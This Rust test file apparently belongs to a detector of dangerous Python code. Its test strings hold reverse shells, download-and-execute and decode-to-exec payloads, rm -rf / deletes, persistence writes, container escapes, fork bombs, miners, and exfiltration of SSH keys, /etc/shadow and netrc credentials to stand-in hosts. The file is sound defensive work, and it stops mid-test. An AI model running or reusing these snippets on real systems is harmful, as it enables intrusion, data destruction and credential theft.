//! BLOCKED families: at least two samples each, with alias, rebinding, getattr and decode evasions.

use super::*;

#[test]
fn reverse_shell_socket_dup2_shell() {
    // The textbook socket + dup2 + /bin/sh reverse shell is BLOCKED.
    let src = "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\np = subprocess.call(['/bin/sh', '-i'])\n";
    fires("CRD101", src);
    level(Level::Blocked, src);
}

#[test]
fn reverse_shell_through_aliases_and_pty() {
    // Aliased modules, create_connection and pty.spawn are still a reverse shell.
    fires(
        "CRD101",
        "import socket as so, pty as p\nimport os as o\nc = so.create_connection(('h', 1))\n[o.dup2(c.fileno(), f) for f in (0, 1, 2)]\np.spawn('/bin/bash')\n",
    );
}

#[test]
fn reverse_shell_through_exec_family_and_fd_redirection() {
    // os.execl of an interactive shell, or a shell given the socket as stdin, after a
    // connect is a reverse shell.
    fires(
        "CRD101",
        "import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.execl('/bin/sh', 'sh', '-i')\n",
    );
    fires(
        "CRD101",
        "import socket, os\ns = socket.socket()\ns.connect(('h', 1))\nos.execv('/bin/sh', ['sh'])\n",
    );
    fires(
        "CRD101",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
    );
}

#[test]
fn reverse_shell_one_liners() {
    // /dev/tcp and nc -e one-liners, even behind getattr and string folding.
    fires(
        "CRD101",
        "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/9001 0>&1')\n",
    );
    fires(
        "CRD101",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('nc -e /bin/sh 1.2.3.4 4444')\n",
    );
}

#[test]
fn download_then_exec_of_response() {
    // Network data passed straight to exec is download-and-execute.
    fires(
        "CRD102",
        "import urllib.request\nexec(urllib.request.urlopen('http://x/p.py').read())\n",
    );
    fires(
        "CRD102",
        "import requests as r\ncode = r.get('http://x').text\nexec(code)\n",
    );
}

#[test]
fn download_to_file_then_run() {
    // Writing a download to disk, marking it executable and running it is blocked.
    let src = "import requests, os, subprocess\nr = requests.get('http://evil/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/x', 0o755)\nsubprocess.run(['/tmp/x'])\n";
    fires("CRD102", src);
    fires(
        "CRD102",
        "from urllib.request import urlretrieve\nimport os\nurlretrieve('http://x/p', 'payload')\nos.system('./payload &')\n",
    );
}

#[test]
fn unpickling_network_data() {
    // pickle.loads of a response body runs whatever the server sends.
    fires(
        "CRD102",
        "import pickle, requests\npickle.loads(requests.get(u).content)\n",
    );
}

#[test]
fn curl_pipe_shell() {
    // `curl | sh` through os.system is download-and-execute.
    fires(
        "CRD102",
        "import os\nos.system('curl -s http://x/i.sh | sh')\n",
    );
}

#[test]
fn decode_chains_into_exec() {
    // base64, zlib, rot13 and hex payloads executed are blocked, aliases included.
    fires(
        "CRD103",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    );
    fires("CRD103", "import zlib as z\nexec(z.decompress(data))\n");
    fires(
        "CRD103",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
    );
    fires("CRD103", "exec(bytes.fromhex('7072696e74283129'))\n");
    fires(
        "CRD103",
        "from base64 import b64decode as d\ncode = d(blob).decode()\neval(compile(code, 'x', 'exec'))\n",
    );
    fires("CRD103", "import marshal\nexec(marshal.loads(blob))\n");
}

#[test]
fn destructive_deletes() {
    // Deleting / or system trees, directly, by alias, by folded command, is blocked.
    fires("CRD104", "import shutil\nshutil.rmtree('/')\n");
    fires("CRD104", "import os\nos.remove('/etc/passwd')\n");
    fires("CRD104", "from shutil import rmtree as r\nr('/usr/lib')\n");
    fires(
        "CRD104",
        "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n",
    );
    fires("CRD104", "import os\nos.system('rm -rf ' + '/')\n");
    fires("CRD104", "import os\nos.system('rm -rf %s' % '/*')\n");
}

#[test]
fn persistence_writes() {
    // rc files, authorized_keys, crontab, ld.so.preload and systemd units persist.
    fires(
        "CRD105",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh')\n",
    );
    fires(
        "CRD105",
        "with open('/root/.ssh/authorized_keys', 'a') as f:\n    f.write(key)\n",
    );
    fires(
        "CRD105",
        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)\n",
    );
    fires(
        "CRD105",
        "import os\nos.system(\"(crontab -l; echo '@reboot /tmp/x') | crontab -\")\n",
    );
    fires(
        "CRD105",
        "open('/etc/ld.so.preload', 'w').write('/tmp/x.so')\n",
    );
    fires(
        "CRD105",
        "import os\nopen(os.path.join(home, '.config/systemd/user/x.service'), 'w')\n",
    );
}

#[test]
fn container_escape_probes() {
    // Docker socket, release_agent, nsenter, modprobe and /proc/<pid>/mem are escapes.
    fires(
        "CRD106",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/' + 'docker' + '.sock')\n",
    );
    fires(
        "CRD106",
        "open('/sys/fs/cgroup/rdma/release_agent', 'w').write(cmd)\n",
    );
    fires("CRD106", "import os\nos.system('nsenter -t 1 -m sh')\n");
    fires(
        "CRD106",
        "import subprocess\nsubprocess.run(['modprobe', 'evil'])\n",
    );
    fires("CRD106", "f = open(f'/proc/{pid}/mem', 'rb')\n");
    fires("CRD106", "import os\nos.unshare(os.CLONE_NEWUSER)\n");
}

#[test]
fn killing_other_processes() {
    // os.kill on foreign pids and pkill/killall are blocked, also through rebinding.
    fires("CRD107", "import os, signal\nos.kill(1, signal.SIGKILL)\n");
    fires("CRD107", "import os\nos.system('pkill -9 python')\n");
    fires("CRD107", "import os as o\nk = o.kill\nk(pid, 9)\n");
}

#[test]
fn killing_own_processes_is_fine() {
    // Signalling itself or its own child is ordinary process management.
    silent(
        "CRD107",
        "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n",
    );
    silent(
        "CRD107",
        "import os, subprocess\np = subprocess.Popen(['sleep', '9'])\nos.kill(p.pid, 15)\n",
    );
    silent("CRD107", "import os\nos.kill(pid, 0)\n");
}

#[test]
fn kill_commands_aimed_at_every_process_or_init() {
    // The kill command with pid -1, 0 or 1, as a shell line or a list argv, kills
    // others; so does a pid the program looked up.
    fires("CRD107", "import os\nos.system('kill -9 -1')\n");
    fires(
        "CRD107",
        "import subprocess\nsubprocess.run(['kill', '-KILL', '-1'])\n",
    );
    fires(
        "CRD107",
        "import subprocess\nsubprocess.call('kill -s 9 -- -1', shell=True)\n",
    );
    fires("CRD107", "import os\nos.system('/bin/kill 1')\n");
    fires(
        "CRD107",
        "import subprocess\nsubprocess.run(['bash', '-c', 'kill -9 0'])\n",
    );
    fires(
        "CRD107",
        "import os\nfor pid in os.listdir('/proc'):\n    os.system(f'kill -9 {pid}')\n",
    );
}

#[test]
fn kill_commands_for_the_programs_own_children() {
    // `kill` of a child the program started (`$!`, a Popen's pid in an argv or in
    // folded text) is process management, not an attack.
    silent("CRD107", "import os\nos.system('sleep 100 & kill $!')\n");
    silent(
        "CRD107",
        "import subprocess\np = subprocess.Popen(['sleep', '9'])\nsubprocess.run(['kill', '-TERM', str(p.pid)])\n",
    );
    let folded = "import os, subprocess\nc = subprocess.Popen(['sleep', '9'])\nos.system(f'kill -TERM {c.pid}')\nos.system('kill -9 ' + str(c.pid))\nos.system('kill -HUP %d' % c.pid)\n";
    silent("CRD107", folded);
    level(Level::Low, folded);
}

#[test]
fn crypto_mining() {
    // Miner binaries and stratum URLs, also assembled at run time, are blocked.
    fires(
        "CRD108",
        "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool:4444'])\n",
    );
    fires(
        "CRD108",
        "import socket\npool = 'stratum' + '+tcp://pool.example'\nsocket.create_connection((pool, 3333))\n",
    );
}

#[test]
fn exfiltration_combines_secret_and_network() {
    // Reading a credential and sending anything out in one program is blocked.
    fires(
        "CRD109",
        "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x', data=key)\n",
    );
    fires(
        "CRD109",
        "import urllib.request\nenv = open('/proc/self/environ').read()\nurllib.request.urlopen('http://x/?' + env)\n",
    );
    fires(
        "CRD109",
        "import os\nos.system('cat /etc/shadow | nc 1.2.3.4 9')\n",
    );
}

#[test]
fn fork_bombs() {
    // Processes or threads started in a loop that neither ends nor waits; a forking
    // server that waits in accept, or a loop that breaks, is not one.
    fires("CRD111", "import os\nwhile True:\n    os.fork()\n");
    fires(
        "CRD111",
        "import threading\ndef go():\n    threading.Thread(target=print).start()\nwhile 1:\n    go()\n",
    );
    silent(
        "CRD111",
        "import os\nwhile True:\n    c = s.accept()\n    if os.fork() == 0:\n        os._exit(0)\n",
    );
    silent(
        "CRD111",
        "import os\nwhile True:\n    if os.fork():\n        break\n",
    );
    silent("CRD111", "import os\nfor _ in range(4):\n    os.fork()\n");
}

#[test]
fn home_and_root_deleted_through_computed_paths() {
    // The home directory itself or all of it, and `/` built from os.sep, are destructive.
    fires(
        "CRD104",
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
    );
    fires(
        "CRD104",
        "import shutil, pathlib\nfor p in pathlib.Path.home().iterdir():\n    shutil.rmtree(p)\n",
    );
    fires(
        "CRD104",
        "import shutil, os\nshutil.rmtree(os.path.abspath(os.sep))\n",
    );
    silent(
        "CRD104",
        "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home() / '.cache' / 'x')\n",
    );
}

#[test]
fn startup_hooks_in_site_packages_persist() {
    // A .pth file or sitecustomize in site-packages runs in every later interpreter.
    fires(
        "CRD105",
        "import site, os\nd = site.getsitepackages()[0]\nopen(os.path.join(d, 'a.pth'), 'w').write('import os')\n",
    );
    silent("CRD105", "open('build/lib/a.pth', 'w').write('src')\n");
}

#[test]
fn recursive_fork_bombs_and_pool_maps() {
    // A function that forks and calls itself; a pool mapping os.system over commands.
    fires(
        "CRD111",
        "import os\ndef spread():\n    os.fork()\n    spread()\nspread()\n",
    );
    fires(
        "CRD104",
        "import os\nfrom multiprocessing import Pool\nPool(2).map(os.system, ['id', 'rm -rf /usr'])\n",
    );
}

#[test]
fn functions_that_start_themselves_twice_per_call() {
    // A function that starts itself as a new process, thread or pool task two or more
    // times per call (a bounded loop, two statements, a helper, a comprehension, a
    // lambda) doubles each generation.
    fires(
        "CRD111",
        "import multiprocessing\ndef grow():\n    for _ in range(2):\n        multiprocessing.Process(target=grow).start()\ngrow()\n",
    );
    fires(
        "CRD111",
        "from threading import Thread as T\ndef spawn(n=0):\n    T(target=spawn, args=(n + 1,)).start()\n    T(target=spawn, args=(n + 1,)).start()\n",
    );
    fires(
        "CRD111",
        "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor()\ndef task():\n    for i in range(3):\n        pool.submit(task)\ntask()\n",
    );
    fires(
        "CRD111",
        "from multiprocessing import Process\ndef launch(fn):\n    Process(target=fn, daemon=True).start()\ndef replicate():\n    launch(replicate)\n    launch(replicate)\nreplicate()\n",
    );
    fires(
        "CRD111",
        "import multiprocessing as mp\ndef hydra():\n    [mp.Process(target=hydra).start() for _ in range(2)]\nif __name__ == '__main__':\n    hydra()\n",
    );
    fires(
        "CRD111",
        "import threading\ngo = lambda: [threading.Thread(target=go).start() for _ in range(3)]\ngo()\n",
    );
    fires(
        "CRD111",
        "import os\ndef split(n):\n    os.fork()\n    split(n + 1)\n    split(n + 1)\nsplit(0)\n",
    );
    // Started through code that calls it: a lambda or a nested function as the target.
    fires(
        "CRD111",
        "import threading\ndef swarm():\n    for _ in range(2):\n        threading.Thread(target=lambda: swarm()).start()\nswarm()\n",
    );
    fires(
        "CRD111",
        "from multiprocessing import Process\ndef bomb():\n    def child():\n        bomb()\n    Process(target=child).start()\n    Process(target=child).start()\nbomb()\n",
    );
}

#[test]
fn thread_and_process_subclasses_start_their_run() {
    // `start()` of a Thread or Process subclass (also one level removed, or called from
    // `__init__`) starts its `run`: endlessly in a loop, or a `run` that starts two more.
    fires(
        "CRD111",
        "import threading\nclass W(threading.Thread):\n    def run(self):\n        pass\nwhile True:\n    W().start()\n",
    );
    fires(
        "CRD111",
        "import threading\nclass Spinner(threading.Thread):\n    def __init__(self):\n        super().__init__(daemon=True)\n        self.start()\nwhile 1:\n    Spinner()\n",
    );
    fires(
        "CRD111",
        "from multiprocessing import Process\nclass Cell(Process):\n    def run(self):\n        Cell().start()\n        Cell().start()\nCell().start()\n",
    );
    fires(
        "CRD111",
        "from multiprocessing import Process as P\nclass Base(P):\n    pass\nclass Cell(Base):\n    def run(self):\n        for _ in range(2):\n            c = Cell()\n            c.start()\nif __name__ == '__main__':\n    Cell().start()\n",
    );
    // Worker threads started a few at a time, or one per accepted connection, are not.
    silent(
        "CRD111",
        "import threading\nclass Worker(threading.Thread):\n    def __init__(self, n):\n        super().__init__()\n        self.n = n\n    def run(self):\n        print(self.n)\nws = [Worker(i) for i in range(4)]\nfor w in ws:\n    w.start()\nfor w in ws:\n    w.join()\n",
    );
    silent(
        "CRD111",
        "import socket, threading\nclass H(threading.Thread):\n    def __init__(self, c):\n        super().__init__()\n        self.c = c\n    def run(self):\n        self.c.sendall(b'hi')\ns = socket.socket()\nwhile True:\n    c, _ = s.accept()\n    H(c).start()\n",
    );
}

#[test]
fn shell_function_fork_bombs_in_command_lines() {
    // A shell function that runs itself in a pipe or the background, through os.system,
    // shell=True, `bash -c` and a list argv, is a fork bomb; a helper function is not.
    fires("CRD111", "import os\nos.system(':(){ :|:& };:')\n");
    fires(
        "CRD111",
        "import subprocess\nsubprocess.run('bomb(){ bomb|bomb & }; bomb', shell=True)\n",
    );
    fires(
        "CRD111",
        "import subprocess\nsubprocess.Popen(['bash', '-c', 'f() { f & f; }; f'])\n",
    );
    fires(
        "CRD111",
        "import os\nname = 'boom'\nos.system(f\"sh -c 'function {name} {{ {name} | {name} & }}; {name}'\")\n",
    );
    silent(
        "CRD111",
        "import subprocess\nsubprocess.run('build() { make -C $1 & }; build a; build b; wait', shell=True)\n",
    );
}

#[test]
fn shell_lines_run_by_another_shell_are_still_read() {
    // shell=True with executable= runs the line with that shell: the line is still read.
    fires(
        "CRD111",
        "import subprocess\nsubprocess.Popen(':(){ :|:& };:', shell=True, executable='/bin/bash')\n",
    );
    fires(
        "CRD107",
        "import subprocess\nsubprocess.run('kill -9 -1', shell=True, executable='/bin/bash')\n",
    );
}

#[test]
fn recursion_that_is_not_a_fork_bomb() {
    // One child per call (a chain), a base case with joined children (divide and
    // conquer) and a tree walk that starts nothing are ordinary recursion.
    silent(
        "CRD111",
        "import multiprocessing\ndef work(depth):\n    if depth == 0:\n        return\n    p = multiprocessing.Process(target=work, args=(depth - 1,))\n    p.start()\n    p.join()\nwork(3)\n",
    );
    silent(
        "CRD111",
        "from threading import Thread\nimport time\ndef tick(n=0):\n    time.sleep(1)\n    Thread(target=tick, args=(n + 1,)).start()\ntick()\n",
    );
    silent(
        "CRD111",
        "import threading\ndef refresh(n):\n    if n < 3:\n        threading.Timer(0.1, lambda: refresh(n + 1)).start()\nrefresh(0)\n",
    );
    silent(
        "CRD111",
        "from concurrent.futures import ThreadPoolExecutor\ndef msort(xs):\n    if len(xs) <= 1:\n        return xs\n    mid = len(xs) // 2\n    with ThreadPoolExecutor(max_workers=2) as ex:\n        a = ex.submit(msort, xs[:mid])\n        b = ex.submit(msort, xs[mid:])\n        return sorted(a.result() + b.result())\nprint(msort([3, 1, 2]))\n",
    );
    silent(
        "CRD111",
        "def walk(node):\n    for child in node.get('children', []):\n        walk(child)\n    walk(node.get('left', {}))\nwalk({'children': [{}]})\n",
    );
}

#[test]
fn a_script_that_starts_itself_on_every_run_is_a_fork_bomb() {
    // Each copy starts more copies of the script: twice from main, once per pass of a
    // loop, or once from a helper function (a chain that never ends).
    fires(
        "CRD111",
        "import subprocess, sys\nif __name__ == '__main__':\n    subprocess.Popen([sys.executable, __file__])\n    subprocess.Popen([sys.executable, __file__])\n",
    );
    fires(
        "CRD111",
        "import os, sys\nme = os.path.abspath(sys.argv[0])\nfor _ in range(3):\n    os.system(f'{sys.executable} {me} &')\n",
    );
    fires(
        "CRD111",
        "import subprocess, sys\nfrom pathlib import Path\ndef spread():\n    subprocess.run(['nohup', 'python3', str(Path(__file__).resolve())])\ndef main():\n    spread()\nmain()\n",
    );
}

#[test]
fn a_script_that_starts_itself_behind_a_condition_is_not() {
    // A parent starting workers of its own script, a child leaving early, a restart in
    // place (`os.execv`), a function never called, and a sibling script started.
    silent(
        "CRD111",
        "import subprocess, sys\nif len(sys.argv) > 1:\n    print('worker', sys.argv[1])\nelse:\n    procs = [subprocess.Popen([sys.executable, __file__, str(i)]) for i in range(4)]\n    for p in procs:\n        p.wait()\n",
    );
    silent(
        "CRD111",
        "import os, subprocess, sys\nif os.environ.get('CHILD'):\n    print('in child')\n    sys.exit(0)\nsubprocess.run([sys.executable, __file__], env={**os.environ, 'CHILD': '1'})\n",
    );
    silent(
        "CRD111",
        "import os, sys\nos.execv(sys.executable, [sys.executable, __file__, '--reloaded'])\n",
    );
    silent(
        "CRD111",
        "import subprocess, sys\ndef relaunch():\n    subprocess.Popen([sys.executable, __file__])\n    subprocess.Popen([sys.executable, __file__])\nprint('not called')\n",
    );
    silent(
        "CRD111",
        "import os, subprocess, sys\nhere = os.path.dirname(os.path.abspath(__file__))\nfor name in ['a', 'b']:\n    subprocess.run([sys.executable, os.path.join(here, 'worker.py'), name])\n",
    );
    silent(
        "CRD111",
        "import shutil, subprocess, sys\nsubprocess.run(['cp', __file__, '/tmp/backup.py'])\nshutil.copy(__file__, 'copy.py')\n",
    );
}

#[test]
fn commands_left_running_in_the_background_by_an_endless_loop_are_a_fork_bomb() {
    // `cmd &` returns at once, so the loop piles up processes; a loop that waits between
    // starts does not.
    fires(
        "CRD111",
        "import itertools, subprocess\nfor n in itertools.count():\n    subprocess.call(f'yes > /dev/null &', shell=True)\n",
    );
    silent(
        "CRD111",
        "import os, time\nwhile True:\n    os.system('notify-send tick &')\n    time.sleep(60)\n",
    );
}

#[test]
fn overwriting_found_files_or_a_disk_destroys_them() {
    // Truncating every file a walk of /var/log finds, zeroing a disk, overwriting every
    // file below home in place; a report written into a known directory is not.
    fires(
        "CRD104",
        "import os\nfor root, _, names in os.walk('/var/log'):\n    for n in names:\n        open(os.path.join(root, n), 'w').close()\n",
    );
    fires(
        "CRD104",
        "import os\nfd = os.open('/dev/nvme0n1', os.O_WRONLY)\nos.write(fd, bytes(1 << 20))\n",
    );
    fires(
        "CRD104",
        "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    with open(p, 'r+b') as f:\n        f.write(b'\\0' * 64)\n",
    );
    silent(
        "CRD104",
        "import os\nname = input()\nwith open(os.path.expanduser(f'~/reports/{name}.txt'), 'w') as f:\n    f.write('ok')\n",
    );
}

#[test]
fn an_environment_variable_with_a_default_is_that_default_where_it_is_unset() {
    // The parent of `$XDG_CACHE_HOME`, unset, is home.
    fires(
        "CRD104",
        "import os, shutil\nfrom pathlib import Path\nbase = os.environ.get('XDG_CACHE_HOME', '~/.cache')\nshutil.rmtree(Path(os.path.expanduser(base)).parent)\n",
    );
    silent(
        "CRD104",
        "import os, shutil\nshutil.rmtree(os.environ.get('BUILD_DIR', 'build'), ignore_errors=True)\n",
    );
}

#[test]
fn decoded_bytes_written_to_a_file_and_run_are_decode_then_execute() {
    // A temporary file filled through its descriptor, then handed to a shell.
    fires(
        "CRD103",
        "import base64, os, subprocess, tempfile\nfd, path = tempfile.mkstemp(suffix='.sh')\nos.write(fd, base64.b64decode('ZWNobyBoaQ=='))\nos.close(fd)\nsubprocess.run(['sh', path])\n",
    );
    // Decoded data saved and opened with a viewer is not run.
    silent(
        "CRD103",
        "import base64, subprocess\nopen('logo.png', 'wb').write(base64.b64decode('iVBORw0KGgo='))\nsubprocess.run(['file', 'logo.png'])\n",
    );
}

#[test]
fn downloads_unpacked_loaded_or_put_on_the_import_path_are_run() {
    // A fetched tarball unpacked, then its installer run; a fetched shared library
    // loaded; a fetched zip put first on sys.path and imported from.
    fires(
        "CRD102",
        "import io, subprocess, tarfile, requests\nblob = requests.get('https://h.example/t.tgz').content\ntarfile.open(fileobj=io.BytesIO(blob)).extractall('vendor/pkg')\nsubprocess.run(['bash', 'vendor/pkg/setup.sh'])\n",
    );
    fires(
        "CRD102",
        "import ctypes, urllib.request\nurllib.request.urlretrieve('https://h.example/x.so', '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')\n",
    );
    fires(
        "CRD102",
        "import sys, urllib.request\nurllib.request.urlretrieve('https://h.example/v.zip', 'v.zip')\nsys.path.insert(0, 'v.zip')\nimport vendored\n",
    );
    // A dataset unpacked and read by the program's own script is not.
    silent(
        "CRD102",
        "import io, subprocess, zipfile, requests\nblob = requests.get('https://h.example/d.zip').content\nzipfile.ZipFile(io.BytesIO(blob)).extractall('data')\nsubprocess.run(['python3', 'train.py', 'data/train.csv'])\n",
    );
}

#[test]
fn a_shell_on_an_asyncio_connection_is_a_reverse_shell() {
    // `asyncio.open_connection` is a socket like any other, and the argv of
    // `create_subprocess_exec` is its arguments.
    fires(
        "CRD101",
        "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('h.example', 7000)\n    p = await asyncio.create_subprocess_exec('/bin/sh', '-i', stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)\nasyncio.run(main())\n",
    );
    fires(
        "CRD102",
        "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('h.example', 80)\n    body = (await r.read()).decode()\n    await asyncio.create_subprocess_exec('sh', '-c', body)\nasyncio.run(main())\n",
    );
}

#[test]
fn handlers_of_socketserver_and_http_servers_serve_a_remote_party() {
    // A handler class that runs what each client sends, given to a server class or to
    // the program's own subclass of one; a handler echoing lines is not a shell.
    fires(
        "CRD102",
        "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(subprocess.check_output(line.decode(), shell=True))\nclass S(socketserver.ThreadingMixIn, socketserver.TCPServer):\n    pass\nS(('0.0.0.0', 9000), H).serve_forever()\n",
    );
    fires(
        "CRD102",
        "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass Web(BaseHTTPRequestHandler):\n    def do_GET(me):\n        os.system(me.path[1:])\nHTTPServer(('', 8080), Web).serve_forever()\n",
    );
    silent(
        "CRD102",
        "import socketserver\nclass Echo(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(line)\nsocketserver.TCPServer(('127.0.0.1', 9000), Echo).serve_forever()\n",
    );
}

#[test]
fn processes_picked_by_filter_and_services_stopped_are_killed() {
    // `filter` keeps the processes of another program; `systemctl stop`, a
    // `__getattr__` dispatcher's verbs and `itertools.product` argvs are read too.
    fires(
        "CRD107",
        "import psutil\nvictims = list(filter(lambda p: p.name() == 'sshd', psutil.process_iter()))\nfor p in victims:\n    p.terminate()\n",
    );
    fires(
        "CRD107",
        "import subprocess\nclass Ctl:\n    def __getattr__(self, verb):\n        def run(*units):\n            return subprocess.run(['systemctl', verb] + list(units))\n        return run\nCtl().stop('auditd')\n",
    );
    fires(
        "CRD107",
        "import itertools, subprocess\nfor tool, name in itertools.product(['pkill'], ['falco', 'sysdig']):\n    subprocess.call([tool, '-9', name])\n",
    );
    silent(
        "CRD107",
        "import subprocess\nsubprocess.run(['systemctl', 'status', 'nginx'])\nsubprocess.run(['service', 'nginx', 'status'])\n",
    );
}

#[test]
fn a_global_git_hook_directory_is_persistence() {
    // Every repository then runs the scripts in it; a repository's own config is not.
    fires(
        "CRD105",
        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n",
    );
    silent(
        "CRD105",
        "import subprocess\nsubprocess.run(['git', 'config', 'core.hooksPath', '.githooks'])\nsubprocess.run(['git', 'config', '--global', 'user.name', 'bot'])\n",
    );
}

#[test]
fn mining_protocols_and_miner_flags_are_mining() {
    fires(
        "CRD108",
        "import json, urllib.request\nurllib.request.urlopen('http://203.0.113.9:8332/', json.dumps({'method': 'getwork', 'params': []}).encode())\n",
    );
    fires(
        "CRD108",
        "import subprocess\nsubprocess.Popen(['/tmp/kworker', '--donate-level=0', '-o', 'pool.example:3333'])\n",
    );
    silent("CRD108", "workers = {'getworker': 1}\nprint(workers)\n");
}

#[test]
fn repositories_found_anywhere_below_home_removed_with_rm() {
    // `Path.home().glob("**/.git")`'s parents are every directory there.
    fires(
        "CRD104",
        "import pathlib, subprocess\ndef repos(root=pathlib.Path.home()):\n    return [p.parent for p in root.glob('**/.git')]\nfor r in repos():\n    subprocess.run(['rm', '-rf', str(r)])\n",
    );
}

#[test]
fn exec_looked_up_in_the_builtins_dict_runs_decoded_code() {
    fires(
        "CRD103",
        "import base64\nrun = __builtins__['ex' + 'ec']\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    );
}

#[test]
fn review_of_the_days_mechanisms_false_positives_and_evasions() {
    // Output files with computed names are not overwrites of found files.
    for source in [
        "import os, sys\nopen(os.path.join(os.path.expanduser('~'), sys.argv[1], sys.argv[2] + '.json'), 'w')\n",
        "import sys\nopen(f'/srv/data/report-{sys.argv[1]}.csv', 'w')\n",
        "import sys\nopen(f'/home/user/{sys.argv[1]}.txt', 'w')\n",
    ] {
        silent("CRD104", source);
    }
    // Base64 that happens to be 95 characters long is not a wallet address.
    silent("CRD108", &format!("ICON = '4{}+/='\n", "A".repeat(94)));
    // Worker relaunches behind `raise SystemExit` or a `match`; a user unit stopped; a
    // project's own .env; a global ssh command.
    silent(
        "CRD111",
        "import subprocess, sys\nif len(sys.argv) > 1:\n    print('child')\n    raise SystemExit(0)\nsubprocess.run([sys.executable, __file__, 'child'])\n",
    );
    silent(
        "CRD111",
        "import subprocess, sys\nmatch sys.argv[1:]:\n    case ['child']:\n        print('child')\n    case _:\n        subprocess.run([sys.executable, __file__, 'child'])\n",
    );
    silent(
        "CRD107",
        "import subprocess\nsubprocess.run(['systemctl', '--user', 'stop', 'myapp.service'])\n",
    );
    silent(
        "CRD109",
        "import os, requests\nkey = open(os.path.expanduser('~/weather-bot/.env')).read()\nrequests.get('https://api.weather.example/v1', params={'k': key})\n",
    );
    silent("CRD105", "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.sshCommand', 'ssh -i ~/.ssh/id_work'])\n");
    // A helper's early return does not end the program's run; options before the script.
    fires(
        "CRD111",
        "import subprocess, sys\ndef clamp(n):\n    if n > 10:\n        return 10\n    return n\nclamp(3)\nsubprocess.Popen([sys.executable, '-u', __file__])\n",
    );
    // A downloaded script run with interpreter options first.
    fires(
        "CRD102",
        "import os, urllib.request\nurllib.request.urlretrieve('http://h.example/x.py', 'x.py')\nos.system('python3 -W ignore x.py')\n",
    );
}

#[test]
fn a_shell_given_a_socket_as_its_streams_or_credential_dirs_archived_and_sent() {
    // `stdin=sock.fileno()` wires the shell to the remote party; a whole `~/.ssh` put in
    // an archive is every key in it.
    fires(
        "CRD101",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.8', 9001))\nsubprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
    );
    fires(
        "CRD109",
        "import io, os, tarfile, urllib.request\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\nurllib.request.urlopen('http://203.0.113.41/put', data=buf.getvalue())\n",
    );
    silent(
        "CRD101",
        "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 8000))\nsubprocess.run(['gzip', '-c', 'log.txt'], stdout=open('log.gz', 'wb'))\n",
    );
}

#[test]
fn decoded_code_is_analysed_as_code_too() {
    // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
    // here a reverse shell.
    fires(
        "CRD101",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ25jIC1lIC9iaW4vc2ggMS4yLjMuNCA5Jyk='))\n",
    );
}

#[test]
fn credentials_from_library_readers_sent_out_are_exfiltration() {
    // netrc's logins posted to a server leave the machine.
    fires(
        "CRD109",
        "import netrc, requests\nauth = netrc.netrc()\nfor host, creds in auth.hosts.items():\n    requests.post('https://collector.example/n', json={'h': host, 'c': creds})\n",
    );
}

#[test]
fn every_home_and_every_file_of_home_are_destructive_targets() {
    // The parent of home holds every user's home; walking home and removing each file
    // destroys it as surely as rmtree does. Cleaning one folder of home does not.
    fires(
        "CRD104",
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home().parent, ignore_errors=True)\n",
    );
    fires(
        "CRD104",
        "import os, shutil\nhomes = os.path.dirname(os.path.expanduser('~'))\nshutil.rmtree(homes)\n",
    );
    fires(
        "CRD104",
        "import os\nbase = os.path.expanduser('~')\nfor root, dirs, files in os.walk(base):\n    for name in files:\n        p = os.path.join(root, name)\n        with open(p, 'wb') as fh:\n            fh.write(os.urandom(64))\n        os.remove(p)\n",
    );
    fires(
        "CRD104",
        "from pathlib import Path\nfor f in Path.home().rglob('*'):\n    if f.is_file():\n        f.unlink()\n",
    );
    silent(
        "CRD104",
        "import os\nd = os.path.expanduser('~/.cache/myapp')\nfor root, dirs, files in os.walk(d):\n    for n in files:\n        os.remove(os.path.join(root, n))\n",
    );
}

#[test]
fn importing_a_downloaded_module_is_download_execute() {
    // Saving fetched code as a module and importing it runs it; saving data does not.
    fires(
        "CRD102",
